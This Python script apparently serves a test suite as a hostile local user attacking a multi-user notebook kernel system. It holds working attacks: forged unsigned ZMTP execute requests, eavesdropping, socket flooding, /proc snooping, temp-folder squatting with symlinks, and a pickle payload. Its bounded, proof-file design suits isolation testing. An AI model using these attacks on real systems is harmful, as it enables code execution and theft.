"""What another user of the machine does to a session; the standard library is all he has.

    python3 -I -c SCRIPT COMMAND JSON       answers with one line of JSON

He knows the source code, and what ps, /proc, /tmp, /dev/shm and ss show. A target is an address:
``[host, port]``, the path of a Unix socket, or its abstract name with a NUL before it. Every attack
is bounded in count and time; what takes its time ends with its stdin. A proof is an empty file,
made by whoever was brought to run code.
"""

from __future__ import annotations

import contextlib
import json
import os
import pickle
import random
import re
import resource
import select
import socket
import struct
import sys
import time
from collections.abc import Callable
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path
from typing import Any

Target = Any
TIMEOUT_S = 0.5
MOST_S = 60.0
BEGAN = time.monotonic()
HALF_OPEN = 100  # connections to each target
SHARED = Path("/dev/shm")
SUBSCRIBE_TO_ALL = b"\x01"


# What is sent -------------------------------------------------------------------------------------


def connect(target: Target) -> socket.socket:
    is_tcp = isinstance(target, list)
    sock = socket.socket(socket.AF_INET if is_tcp else socket.AF_UNIX, socket.SOCK_STREAM)
    sock.settimeout(TIMEOUT_S)
    sock.connect(tuple(target) if is_tcp else target)
    return sock


def greeting() -> bytes:
    """Return how ZMTP 3.0 begins, with the mechanism NULL."""
    return b"\xff" + bytes(8) + b"\x7f\x03\x00" + b"NULL".ljust(20, b"\0") + bytes(32)


def ready(socket_type: bytes) -> bytes:
    """Return the command with which a socket of this type comes in."""
    property_ = b"\x0bSocket-Type" + struct.pack(">I", len(socket_type)) + socket_type
    body = b"\x05READY" + property_
    return bytes([0x04, len(body)]) + body


def message(frames: list[bytes]) -> bytes:
    """Return *frames* as one message."""
    more = [0x01] * (len(frames) - 1) + [0x00]
    return b"".join(
        struct.pack(">BQ", flag | 0x02, len(frame)) + frame
        for flag, frame in zip(more, frames, strict=True)
    )


def open_zmtp(target: Target, socket_type: bytes) -> socket.socket:
    """Come in as a ZeroMQ socket of this type, as far as the other side lets one in.

    Raises:
        OSError: It does not let one in, or speaks no ZMTP.
    """
    sock = connect(target)
    sock.sendall(greeting())
    if not receive(sock, 64):
        sock.close()
        raise ConnectionError("no ZMTP is spoken there")
    sock.sendall(ready(socket_type))
    receive(sock, 2)
    return sock


def receive(sock: socket.socket, num_bytes: int) -> bytes:
    """Return up to so many bytes, less where no more come in time."""
    data = b""
    with contextlib.suppress(OSError):
        while len(data) < num_bytes and (more := sock.recv(num_bytes - len(data))):
            data += more
    return data


# Attacks on sockets: each takes one target --------------------------------------------------------


def tls_hello(target: Target) -> None:
    hello = b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + random.randbytes(506)
    say(target, hello)


def http_get(target: Target) -> None:
    say(target, b"GET / HTTP/1.1\r\nHost: localhost\r\n\r\n")


def random_bytes(target: Target) -> None:
    for size in (1, 10, 64, 1000, 100_000):
        say(target, random.randbytes(size))
    say(target, greeting() + random.randbytes(1000))


def say(target: Target, data: bytes) -> None:
    with contextlib.suppress(OSError), connect(target) as sock:
        sock.sendall(data)
        receive(sock, 1)


def stray_messages(target: Target) -> None:
    """Send messages of too few, too many and wrong frames to sockets of every kind."""
    if not speaks_zmtp(target):
        return
    for socket_type in (b"DEALER", b"REQ", b"SUB", b"PUB", b"ROUTER"):
        for frames in ([b""], [b"x"], [b"", b""], [b"a", b"b"], [b"<IDS|MSG>"], [b"\xff"] * 9):
            with contextlib.suppress(OSError), open_zmtp(target, socket_type) as sock:
                sock.sendall(message(frames))
                receive_soon(sock)


def speaks_zmtp(target: Target) -> bool:
    try:
        open_zmtp(target, b"DEALER").close()
    except OSError:
        return False
    return True


def receive_soon(sock: socket.socket) -> None:
    """Give the other side a moment to take what was sent before the connection goes."""
    sock.settimeout(0.02)
    receive(sock, 1)


def half_open(target: Target) -> None:
    """Open many connections that say nothing, or stop in the middle of the greeting."""
    held = []
    with contextlib.suppress(OSError):
        for number in range(HALF_OPEN):
            sock = connect(target)
            held.append(sock)
            if number % 2:
                sock.sendall(greeting()[:30])
    time.sleep(1)
    for sock in held:
        sock.close()


def port_scan(target: Target) -> None:
    for _ in range(50):
        with contextlib.suppress(OSError):
            connect(target).close()


SOCKET_ATTACKS = {
    attack.__name__: attack
    for attack in (tls_hello, http_get, random_bytes, stray_messages, half_open, port_scan)
}


def attack(kind: str, targets: list[Target]) -> None:
    """Make the attack *kind* on all *targets* at once."""
    _, most = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
    on_all(SOCKET_ATTACKS[kind], targets)


def on_all(function: Any, targets: list[Target]) -> list[Any]:
    with ThreadPoolExecutor(max(1, len(targets))) as pool:
        return list(pool.map(function, targets))


def reached(targets: list[Target]) -> list[Target]:
    """Return the targets that let one connect at all."""

    def is_reached(target: Target) -> bool:
        try:
            connect(target).close()
        except OSError:
            return False
        return True

    return [target for target in targets if is_reached(target)]


def listen_in(targets: list[Target]) -> str:
    """Subscribe to everything at all *targets*; return what was heard, byte for byte (latin-1)."""

    def heard(target: Target) -> bytes:
        data = b""
        with contextlib.suppress(OSError), open_zmtp(target, b"SUB") as sock:
            sock.sendall(message([SUBSCRIBE_TO_ALL]))
            while not is_told_to_end():
                with contextlib.suppress(TimeoutError):
                    if not (more := sock.recv(65536)):
                        break
                    data += more
        return data

    say_ready()
    return b"".join(on_all(heard, targets)).decode("latin-1")


def forge(targets: list[Target], kinds: list[str], idents: list[str], code: str) -> None:
    """Send requests to run *code* that are signed by nobody, under every name a rank may have."""
    names = [name.encode() for name in idents] + [b""]

    def send(target: Target) -> None:
        for kind in kinds if speaks_zmtp(target) else ():
            with contextlib.suppress(OSError), open_zmtp(target, b"DEALER") as sock:
                for name in names:
                    for signature in (b"", b"0" * 64):
                        sock.sendall(message(forged(name, signature, kind, code)))
                receive_soon(sock)

    on_all(send, targets)


def forged(name: bytes, signature: bytes, kind: str, code: str) -> list[bytes]:
    header = {
        "msg_id": "forged",
        "msg_type": kind,
        "session": "s",
        "username": "u",
        "version": "5.3",
    }
    content = {"code": code, "silent": False, "cell_id": "forged", "ranks": [0], "label": "x"}
    parts = [json.dumps(part).encode() for part in (header, {}, {}, content)]
    return [name, b"<IDS|MSG>", signature, *parts]


# Attacks on files and processes -------------------------------------------------------------------


def squat(kernel: int, precious: str, proof: str) -> dict[str, list[str]]:
    """Make the folders that a session of *kernel* might use before it does; swap what comes in.

    Args:
        kernel: A process; names are drawn from what it starts, and from nobody else's.
        precious: A file of the victim; what he opens for writing points there.
        proof: Made by who unpickles what was put in the place of his own.

    Returns:
        The folders made, and the files of others that were found in them.
    """
    os.umask(0)
    made: dict[Path, None] = {}
    found: dict[str, None] = {}
    tried: set[str] = set()
    uid = Path(f"/proc/{kernel}").stat().st_uid
    say_ready()
    try:
        while not is_told_to_end():
            for word in words_of(kernel) - tried:
                tried.add(word)
                made |= dict.fromkeys(take_names(uid, word, precious))
            for folder in made:
                with contextlib.suppress(OSError):  # root may have removed it
                    found |= dict.fromkeys(swap_all(folder, proof))
    finally:
        for folder in made:
            remove(folder)
    return {"made": [str(path) for path in made], "found": list(found)}


def words_of(kernel: int) -> set[str]:
    """Return what may be an id in the command lines of *kernel* and of all that came from it."""
    words = set()
    for pid in family_of(kernel):
        with contextlib.suppress(OSError):
            text = Path(f"/proc/{pid}/cmdline").read_bytes().decode(errors="replace")
            words |= {str(pid), *re.findall(r"[0-9a-f]{6,}|(?<=/)\w+", text)}
    return words


def family_of(kernel: int) -> set[int]:
    """Return *kernel* and its descendants."""
    parents = {}
    for process in Path("/proc").iterdir():
        if process.name.isdigit():
            with contextlib.suppress(OSError):
                fields = (process / "stat").read_text().rpartition(")")[2].split()
                parents[int(process.name)] = int(fields[1])
    family = {kernel}
    while more := {pid for pid, parent in parents.items() if parent in family} - family:
        family |= more
    return family


def take_names(uid: int, word: str, precious: str) -> list[Path]:
    """Make every folder that may become one of the session that is called *word*."""
    names = (f"nbdist-{uid}-{word}", f"nbdist-{word}", f"nbdist_{word}")
    taken = []
    for folder in (parent / name for parent in (SHARED, Path("/tmp")) for name in names):
        with contextlib.suppress(OSError):
            folder.mkdir(mode=0o777)
            (folder / "guard.table").symlink_to(precious)
            taken.append(folder)
    return taken


def swap_all(folder: Path, proof: str) -> list[str]:
    """Put our own file in the place of every file of another user in *folder*."""
    swapped = []
    for path in folder.iterdir():
        with contextlib.suppress(OSError):
            if path.lstat().st_uid != os.getuid() and path.lstat().st_size:
                draft = folder / "draft"
                draft.write_bytes(Payload.pickled(proof))
                draft.rename(path)
                swapped.append(str(path))
    return swapped


class Payload:
    """Opens a file for writing where it is unpickled."""

    def __init__(self, proof: str) -> None:
        self.proof = proof

    def __reduce__(self) -> Any:
        return open, (self.proof, "w")

    @classmethod
    def pickled(cls, proof: str) -> bytes:
        return pickle.dumps(cls(proof))


def remove(folder: Path) -> None:
    with contextlib.suppress(OSError):
        for path in folder.iterdir():
            path.unlink()
        folder.rmdir()


def plant(folders: list[str]) -> list[str]:
    """Try to put a file, a symbolic link and a hard link into *folders*; return what came in."""
    planted = []
    for folder in map(Path, folders):
        for name, make in (
            ("file", Path.touch),
            ("symlink", lambda path: path.symlink_to("/etc/passwd")),
            ("hardlink", lambda path: path.hardlink_to("/etc/hostname")),
        ):
            with contextlib.suppress(OSError):
                make(folder / f"planted-{name}")
                planted.append(f"{folder}: {name}")
    return planted


def make_root(path: str, session: str, pids: list[list[Any]], boot: str) -> None:
    """Make a folder for sessions, with one whose records name processes of somebody else."""
    os.umask(0)
    folder = Path(path) / session
    for name in ("logs", "cells", "security"):
        (folder / name).mkdir(parents=True, mode=0o777)
    entries = [
        {"role": f"rank {rank}", "pid": pid, "started": started, "boot": boot}
        for rank, (pid, started) in enumerate(pids)
    ]
    (folder / "processes.jsonl").write_text("".join(json.dumps(e) + "\n" for e in entries))
    about = {"kernel": {"pid": pids[0][0], "folder": "/"}, "nproc": 1, "since": 0.0}
    (folder / "session.json").write_text(json.dumps({**about, "lease_until": time.time() + 600}))


def take_name(path: str, leads_to: str | None) -> None:
    """Take a name that the victim will use: a folder open to all, or a link."""
    os.umask(0)
    if leads_to is None:
        Path(path).mkdir(mode=0o777)
    else:
        Path(path).symlink_to(leads_to)


def give_back(path: str) -> None:
    """Remove what `take_name` made."""
    place = Path(path)
    place.unlink() if place.is_symlink() else place.rmdir()


def open_all(paths: list[str]) -> list[str]:
    """Try to read, list or write *paths*; return what went."""
    went = []
    for path in paths:
        for how in (os.O_RDONLY, os.O_WRONLY):
            with contextlib.suppress(OSError):
                os.close(os.open(path, how | os.O_NONBLOCK))
                went.append(path)
    return sorted(set(went))


def touch_processes(pids: list[int]) -> list[str]:
    """Try to signal *pids*, and to look into them; return what went."""
    went = []
    for pid in pids:
        with contextlib.suppress(OSError):
            os.kill(pid, 0)  # asks for the right alone
            went.append(f"signal to {pid}")
        for name in ("environ", "mem", "maps", "auxv", "fd", "cwd", "root"):
            with contextlib.suppress(OSError):
                path = Path(f"/proc/{pid}/{name}")
                list(path.iterdir()) if path.is_dir() else path.open("rb").read(1)
                went.append(str(path))
    return went


COMMANDS: list[Callable[..., Any]] = [
    attack,
    reached,
    listen_in,
    forge,
    squat,
    plant,
    make_root,
    take_name,
    give_back,
]
COMMANDS += [open_all, touch_processes]


def say_ready() -> None:
    print("ready", flush=True)


def is_told_to_end() -> bool:
    """Whether stdin has been closed, or it has gone on for long enough."""
    told, _, _ = select.select([sys.stdin], [], [], 0)
    return bool(told) or time.monotonic() - BEGAN > MOST_S


if __name__ == "__main__":
    command = next(command for command in COMMANDS if command.__name__ == sys.argv[1])
    print(json.dumps(command(**json.loads(sys.argv[2]))))
